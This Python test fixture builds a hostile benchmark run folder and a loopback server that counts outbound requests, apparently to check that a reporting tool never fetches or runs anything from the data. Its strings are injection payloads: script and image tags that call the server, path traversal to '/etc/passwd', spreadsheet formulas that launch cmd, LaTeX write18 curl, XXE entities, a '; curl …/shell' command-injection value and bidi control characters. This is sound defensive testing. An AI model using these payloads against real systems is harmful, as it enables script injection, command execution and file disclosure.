"""A run whose every foreign string attacks: markup, addresses of a counting server, controls, bidi, formulas, paths, a title of 1 MB."""

from __future__ import annotations

import hashlib
import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pyarrow.parquet as pq
import synthetic

from bench.model import Corpus, Page

if TYPE_CHECKING:
    from pathlib import Path

IDS = (
    "../../x",
    "..\\..\\y",
    "/etc/passwd",
    "a\x00b",
    "<script>alert(1)</script>",
    "con|rm `x`",
    "=cmd()",
    "::error::x",
    "x\u202egnp.exe",
    '"onload="x',
    "a" * 300,
)


def attacks(server: str) -> list[str]:
    """Texts that would reach ``server`` or run something if any medium took them for more than words."""
    return [
        f"<script src='{server}/script'></script><script>fetch('{server}/inline');window.owned=1</script>",
        f"<img src='{server}/img' onerror=\"window.owned=1\"><svg onload='window.owned=1'><image href='{server}/svg'/></svg>",
        f"<meta http-equiv=refresh content='0;url={server}/refresh'><base href='{server}/base/'><link rel=stylesheet href='{server}/css'>",
        f"<style>@import '{server}/import';body{{background:url({server}/css-url)}}</style><iframe src='{server}/frame'></iframe>",
        "<a href='javascript:window.owned=1'>x</a><object data='data:text/html,<script>window.owned=1</script>'></object>",
        f"</script></style></textarea></title>--><script>window.owned=1</script><!-- ]]> <video src='{server}/video'>",
        "\x1b[2J\x1b]0;owned\x07 \u202eabc\u202c \u2066x\u2069 \x00 \x9b31m \u2028 end",
        f'=HYPERLINK("{server}/csv","x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        f"![x]({server}/md) [y]({server}/md2) | `z` |",
        "::error file=x::owned",
        f"\\input{{/etc/passwd}} \\write18{{curl {server}/tex}} %$&#_",
        "{{ 7*7 }} {% raw %} ${7*7} <%= 7 %>",
        f"<?xml-stylesheet href='{server}/xsl'?><!ENTITY x SYSTEM '{server}/xxe'>",
    ]


def make(folder: Path, server: str) -> Path:
    """Write a hostile run folder."""
    synthetic.make(folder, synthetic.Plan(corpora=(("made", "html", len(attacks(server))),), adapters=3, words=30, fail=0.0))
    poison = attacks(server)
    pages = pq.read_table(folder / "pages.parquet").to_pylist()
    ids = {page["page_id"]: IDS[at] if at < len(IDS) else f"{poison[at][:40]}{at}" for at, page in enumerate(pages)}
    for at, page in enumerate(pages):
        text = poison[at % len(poison)]
        page |= {
            "page_id": ids[page["page_id"]],
            "title": text if at else "<b>" + "T" * 1_000_000,
            "url": f"javascript:fetch('{server}/url')" if at % 2 else f"{server}/{text}",
            "lang": 'en" onclick="x' if at % 3 == 0 else "ar",
            "type": "<b>" + text[:30],
            "site": text,
            "sha256": hashlib.sha256(text.encode()).hexdigest(),
            "devices": [text],
            "draft": True,
            "must_have": [text],
            "must_not": ["x"],
            "blocks": [
                {"text": text, "optional": False, "role": "x onclick=window.owned=1"},
                {"text": "plain words here", "optional": True, "role": "<b>"},
            ],
        }
    rows = pq.read_table(folder / "extractions.parquet").to_pylist()
    for at, row in enumerate(rows):
        text = poison[at % len(poison)]
        status = "error" if at % 5 == 4 else "ok"
        row |= {
            "page_id": ids[row["page_id"]],
            "text": text + "\n" + poison[(at + 1) % len(poison)],
            "status": status,
            "error": text,
            "stderr": text,
        }
    manifest = json.loads((folder / "manifest.json").read_text("utf-8"))
    manifest.pop("sha256", None)
    rename(manifest, pages, rows, server)
    for path in folder.glob("*.parquet"):
        path.unlink()
    pages = [page | {"blocks": [synthetic.Block(**block) for block in page["blocks"]]} for page in pages]
    synthetic._write(
        folder / "pages.parquet", [page | {"blocks": [synthetic._block(b) for b in page["blocks"]]} for page in pages], synthetic.PAGES
    )
    synthetic._write(folder / "extractions.parquet", rows, synthetic.EXTRACTIONS)
    synthetic.score(folder, pages, rows, "aligned")
    (folder / "manifest.json").write_text(json.dumps(manifest), "utf-8")
    return folder


def corpora(folder: Path, server: str) -> list[Corpus]:
    """Return the corpus of the run, whose pages are the attacks themselves."""
    manifest = json.loads((folder / "manifest.json").read_text("utf-8"))
    listed = pq.read_table(folder / "pages.parquet").to_pylist()
    known = {hashlib.sha256(text.encode()).hexdigest(): text.encode() for text in attacks(server)}
    pages = tuple(Page(page["page_id"], page["corpus"], known[page["sha256"]]) for page in listed)
    return [Corpus(manifest["corpora"][0]["name"], manifest["corpora"][0]["digest"], pages, {})]


def rename(manifest: dict, pages: list[dict], rows: list[dict], server: str) -> None:
    """Give corpus, adapters, versions, settings and machine hostile names (a user's configuration may come from anywhere)."""
    corpus = f"<img src={server}/corpus onerror=window.owned=1>|`=1"
    names = {
        row["adapter"]: f"=a{at}'\"><img src={server}/adapter{at} onerror=window.owned=1>|`\u202e"
        for at, row in enumerate(rows[:: len(pages)])
    }
    for adapter in manifest["adapters"]:
        text = f"</script><img src={server}/settings>"
        adapter |= {"name": names[adapter["name"]], "package": text, "version": text, "licence": text, "settings": {text: text}}
    manifest["corpora"][0] |= {"name": corpus, "source": f"; curl {server}/shell #", "licence": f"<img src={server}/licence>"}
    manifest["machine"] = {"<b>cpu": f"<img src={server}/machine>"}
    manifest["created"] = "<script>window.owned=1</script>"
    for record in (*pages, *rows):
        record["corpus"] = corpus
    for row in rows:
        row["adapter"] = names[row["adapter"]]


@contextmanager
def counting():
    """Return a loopback server that counts what reaches it: yields (address, list of paths)."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_GET  # noqa: N815 - the names of the standard library

        def log_message(self, *details: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}", hits
        finally:
            server.shutdown()
            thread.join()
